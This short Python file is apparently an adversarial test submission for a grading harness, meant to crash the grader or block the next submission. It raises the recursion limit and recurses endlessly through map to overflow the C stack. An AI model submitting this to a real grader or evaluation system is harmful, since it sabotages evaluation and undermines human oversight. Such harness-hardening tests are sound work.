"""Overflow the stack.

Tries: endless recursion through C code, without Python's limit.
Success: the grader crashes as well, or the next submission cannot be graded.
Outcome: died or error or memory.
"""

import sys


def deeper(_):
    return list(map(deeper, [0]))


def attack(targets, model):
    sys.setrecursionlimit(1 << 30)
    return deeper(0)
